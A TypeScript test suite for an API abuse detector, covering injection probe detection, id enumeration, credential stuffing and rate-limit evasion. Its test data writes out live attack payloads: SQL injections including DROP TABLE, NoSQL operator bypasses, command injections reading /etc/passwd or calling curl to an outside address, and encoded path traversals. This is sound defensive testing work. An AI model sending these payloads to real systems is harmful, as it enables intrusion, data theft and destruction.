// Detectors without training: attack probes in path, query and body (table of
// payloads and of ordinary look-alikes, and a linear-time check on hostile input),
// enumeration of sequential ids against ordinary clients touching many ids, and
// the client-window detectors (refused logins, 429 answers).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DEFAULT_LIMITS } from '../src/config/limits.js';
import {
  DEFAULT_ENUMERATION, detectProbes, EnumerationDetector, findingsByClient, flaggedByDetectors,
  normalizeForScan, percentDecode, windowDetections,
} from '../src/abuse/detectors.js';
import type { ClientEvent } from '../src/abuse/events.js';
import { extractWindows, type WindowRow } from '../src/abuse/features.js';
import { mulberry32 } from '../src/abuse/random.js';
import { ev } from './helpers/abuse-events.js';

const L = DEFAULT_LIMITS;
const q = (query: string) => detectProbes({ path: '/search', query, body: '' }, L);
const p = (path: string) => detectProbes({ path, query: '', body: '' }, L);
const b = (body: string) => detectProbes({ path: '/orders', query: '', body }, L);

test('percent-decoding is lenient and never throws', () => {
  assert.equal(percentDecode('a%20b+c', true), 'a b c');
  assert.equal(percentDecode('100%', false), '100%');
  assert.equal(percentDecode('%zz%4', false), '%zz%4');
  assert.equal(percentDecode('%c0%ae', false), '\u00c0\u00ae');
  assert.equal(normalizeForScan('UNION/**/SELECT', false, 100), 'union select');
  assert.equal(normalizeForScan('%252e%252e%252f', false, 100), '../');
});

test('SQL injection payloads are found in query, path and body', () => {
  for (const s of ["q=' OR 1=1--", "q=x')+or+('a'%3d'a", 'id=1 AND 1=2', "q=admin'--",
    'q=1 UNION ALL SELECT null,version()', 'q=1;SELECT+SLEEP(5)', "q=x'; DROP TABLE users",
    'q=1 union/**/select 1', "q=1' waitfor delay '0:0:5", 'q=@@version',
    'q=%2527%2520or%25201%253D1']) {
    assert.deepEqual(q(s), ['sql'], s);
  }
  assert.deepEqual(p("/users/1'%20or%20'1'='1"), ['sql']);
  assert.deepEqual(b('{"name":"x\' OR \'a\'=\'a"}'), ['sql']);
});

test('NoSQL operators are found in JSON bodies and bracket queries', () => {
  assert.deepEqual(b('{"username":{"$ne":null},"password":{"$ne":null}}'), ['nosql']);
  assert.deepEqual(b('{"age": {"$gt": ""}}'), ['nosql']);
  assert.deepEqual(q('user[$ne]=admin&pass[%24regex]=.*'), ['nosql']);
});

test('command injection: separators, substitutions and backticks', () => {
  for (const s of ['host=127.0.0.1;cat /etc/passwd', 'x=$(whoami)', 'x=`id`', 'x=a | ls -la',
    'x=1 && curl http://198.51.100.1/x', 'x=a%0aid']) {
    assert.ok(q(s).includes('command'), s);
  }
  assert.ok(b('{"host":"8.8.8.8; ping -c 3 127.0.0.1"}').includes('command'));
});

test('path traversal, plain, encoded, double-encoded and overlong', () => {
  for (const path of ['/static/../../etc/passwd', '/files/%2e%2e%2f%2e%2e%2fwin.ini',
    '/download/..%2f..%2fapp.conf', '/a/%252e%252e%252fsecret', '/x/%c0%ae%c0%ae/y', '/img/..']) {
    assert.deepEqual(p(path), ['traversal'], path);
  }
  assert.deepEqual(q('file=../../boot.ini'), ['traversal']);
});

test('ordinary look-alikes are not probes', () => {
  const clean = [
    "q=O'Brien jacket", "q=rock+'n'+roll", 'q=50%25 off', "q=kids'+toys", 'q=select fit jeans',
    'q=union jack flag', 'q=sleep mask', 'q=cat toys', 'q=echo dot', 'q=id card holder',
    'q=tom %26 jerry', 'page=2&id=7&sort=-date', 'q=c:\\ sticker', 'q="best" mug',
    'q=1/2 inch drill', 'q=ls-2000', 'q=drop earrings', 'q=order by price', 'q=a..b',
  ];
  for (const s of clean) assert.deepEqual(q(s), [], s);
  for (const s of ['{"note":"Leave at the door; thanks!"}', '{"note":"It\'s a gift -- please"}',
    '{"note":"Ring twice | side gate"}', '{"sort":"order","or":1}', '{"price":"$12.50"}',
    '{"a":"--verbose"}', '<a class="android">x</a>', 'see the ... docs; or 2 more']) {
    assert.deepEqual(b(s), [], s);
  }
  assert.deepEqual(p('/api/v1.2/users/42/files/report.final.pdf'), []);
});

test('scanning is linear: hostile repetitive input takes about as long per byte', () => {
  const chunks = ["' or ", "'''''", '$($($(', ';;;;|||', '../..', '%25%25%25', "'\" or '"];
  for (const unit of chunks) {
    const small = unit.repeat(1000);
    const big = unit.repeat(4000);
    // Best of three, so a busy machine does not make one run look slow.
    const time = (s: string): number => Math.min(...[0, 1, 2].map(() => {
      const t0 = performance.now();
      for (let i = 0; i < 5; i++) detectProbes({ path: s, query: s, body: s }, L);
      return performance.now() - t0;
    }));
    time(small); // warm up
    const tSmall = time(small);
    const tBig = time(big);
    // Four times the input; a quadratic pattern would take ~16 times as long.
    assert.ok(tBig < tSmall * 8 + 5, `${JSON.stringify(unit)}: ${tSmall} ms then ${tBig} ms`);
  }
});

test('input past the scan limit is not scanned', () => {
  const pad = 'a'.repeat(L.abuseMaxProbeScanChars);
  assert.deepEqual(b(pad + "' OR 1=1--"), []);
  assert.deepEqual(b("' OR 1=1--" + pad), ['sql']);
});

const T0 = 1_700_000_000;

test('enumeration: sequential ids from one client within seconds are one finding', () => {
  const det = new EnumerationDetector(L);
  const found = [];
  for (let i = 0; i < 10; i++) {
    found.push(...det.observe(ev(T0 + i * 0.005, { clientAddress: '127.0.0.7',
      template: '/v2/pets/{id}', params: { id: String(306 + i) } })));
  }
  assert.equal(found.length, 1);
  const f = found[0];
  assert.equal(f?.param, 'id');
  assert.equal(f?.distinct, DEFAULT_ENUMERATION.minDistinct);
  assert.equal(f?.clientAddress, '127.0.0.7');
  assert.equal(f?.start, T0);
  assert.ok(!JSON.stringify(f).includes('306'));
});

test('enumeration tolerates gaps, a few out-of-order arrivals and id prefixes', () => {
  const det = new EnumerationDetector(L);
  const ids = ['INV-0101', 'INV-0103', 'INV-0102', 'INV-0104', 'INV-0106', 'INV-0105',
    'INV-0107', 'INV-0109', 'INV-0110'];
  const found = ids.flatMap((id, i) =>
    det.observe(ev(T0 + i, { template: '/invoices/{no}', params: { no: id } })));
  assert.equal(found.length, 1);
});

test('ordinary clients touching many ids in no order are not enumeration', () => {
  const det = new EnumerationDetector(L);
  const r = mulberry32(5);
  let found = 0;
  // 2000 requests for random ids in a small range (1..40), 5 per second, one client.
  for (let i = 0; i < 2000; i++) {
    found += det.observe(ev(T0 + i * 0.2, { template: '/customers/{id}',
      params: { id: String(1 + Math.floor(r() * 40)) } })).length;
  }
  assert.equal(found, 0);
});

test('slow walks and other clients do not add up to enumeration', () => {
  const det = new EnumerationDetector(L);
  let found = 0;
  // One id every 2 s: eight take 14 s, more than the 10 s span.
  for (let i = 0; i < 20; i++) {
    found += det.observe(ev(T0 + i * 2, { template: '/u/{id}', params: { id: String(i) } })).length;
  }
  // Eight clients one id each.
  for (let i = 0; i < 8; i++) {
    found += det.observe(ev(T0 + 100 + i * 0.1, { clientAddress: `10.0.1.${i}`,
      template: '/u/{id}', params: { id: String(i) } })).length;
  }
  assert.equal(found, 0);
});

test('a principal rotating addresses is still seen, once per request', () => {
  const det = new EnumerationDetector(L);
  const found = [];
  for (let i = 0; i < 8; i++) {
    found.push(...det.observe(ev(T0 + i, { clientAddress: `10.0.2.${i}`, principal: 'jwt:x',
      template: '/u/{id}', params: { id: String(50 + i) } })));
  }
  assert.equal(found.length, 1);
  assert.equal(found[0]?.kind, 'principal');
  assert.equal(found[0]?.client, 'jwt:x');
});

/** The window rows of some events (60 s windows), address rows first. */
function rowsOf(events: ClientEvent[]): WindowRow[] {
  return extractWindows(events, { windowSec: 60, limits: L }).rows
    .sort((x, y) => (x.kind < y.kind ? -1 : x.kind > y.kind ? 1 : 0));
}

test('refused logins: ten in a window is credential stuffing, a few mistypes are not', () => {
  const T0 = 1_700_000_000;
  const login = (ts: number, ok: boolean, addr: string): ClientEvent => ev(ts, {
    clientAddress: addr, method: 'POST', template: '/login', status: ok ? 200 : 401,
    loginAttempt: ok ? 'success' : 'failure' });
  const events = [
    ...Array.from({ length: 10 }, (_, i) => login(T0 + i * 3, false, '10.0.0.9')),
    login(T0 + 1, false, '10.0.0.1'), login(T0 + 2, false, '10.0.0.1'),
    login(T0 + 3, true, '10.0.0.1'),
    // Ten refusals, but not in one window: no finding.
    ...Array.from({ length: 10 }, (_, i) => login(T0 + i * 20, false, '10.0.0.2')),
  ].sort((x, y) => x.ts - y.ts);
  const found = rowsOf(events).map((r) => [r.key, r.window.start - T0, windowDetections(r)]);
  assert.deepEqual(found.filter(([, , d]) => (d as unknown[]).length > 0), [
    ['10.0.0.9', 0, [{ detector: 'credential-stuffing', feature: 'loginFailures', value: 10,
      threshold: 10 }]],
  ]);
});

test('429 answers: ten in a window is a client ignoring the limit; one or two are not', () => {
  const T0 = 1_700_000_000;
  const events = [
    ...Array.from({ length: 30 }, (_, i) => ev(T0 + i, { clientAddress: '10.0.0.5',
      status: i % 3 === 0 ? 200 : 429 })),
    ev(T0 + 1, { clientAddress: '10.0.0.6', status: 429 }),
    ev(T0 + 9, { clientAddress: '10.0.0.6', status: 429 }),
    ev(T0 + 30, { clientAddress: '10.0.0.6', status: 200 }),
  ].sort((x, y) => x.ts - y.ts);
  const rows = rowsOf(events);
  assert.deepEqual(rows.map((r) => [r.key, r.throttled]), [['10.0.0.5', 20], ['10.0.0.6', 2]]);
  assert.deepEqual(windowDetections(rows[0]!).map((d) => [d.detector, d.value]),
    [['rate-limited', 20]]);
  assert.deepEqual(windowDetections(rows[1]!), []);
});

test('rows a detector explains: probes, a client-window detector, an enumeration run', () => {
  const T0 = 1_700_000_000;
  const events = [
    ev(T0 + 1, { clientAddress: '10.0.0.1', probes: ['sql'] }),
    ev(T0 + 2, { clientAddress: '10.0.0.2' }),
    ...Array.from({ length: 10 }, (_, i) => ev(T0 + 70 + i, { clientAddress: '10.0.0.3',
      principal: 'jwt:walker', template: '/users/{id}', params: { id: String(100 + i) } })),
    ev(T0 + 75, { clientAddress: '10.0.0.2', principal: 'jwt:other' }),
  ].sort((x, y) => x.ts - y.ts);
  const detector = new EnumerationDetector(L);
  const findings = findingsByClient(events.flatMap((e) => detector.observe(e)));
  const flagged = extractWindows(events, { windowSec: 60, origin: T0, limits: L }).rows
    .map((r) => [r.kind, r.key, r.window.start - T0, flaggedByDetectors(r, findings)]);
  assert.deepEqual(flagged, [
    ['address', '10.0.0.1', 0, true], ['address', '10.0.0.2', 0, false],
    ['address', '10.0.0.2', 60, false], ['address', '10.0.0.3', 60, true],
    ['principal', 'jwt:other', 60, false], ['principal', 'jwt:walker', 60, true],
  ]);
});
